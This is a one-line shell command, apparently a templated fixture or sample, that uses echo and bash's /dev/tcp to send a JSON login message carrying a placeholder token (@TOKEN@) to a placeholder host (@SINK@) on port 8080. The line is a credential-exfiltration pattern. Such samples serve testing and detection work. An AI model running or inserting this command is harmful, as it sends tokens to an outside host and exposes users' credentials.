echo '{"method":"login","params":"@TOKEN@"}' > /dev/tcp/@SINK@/8080
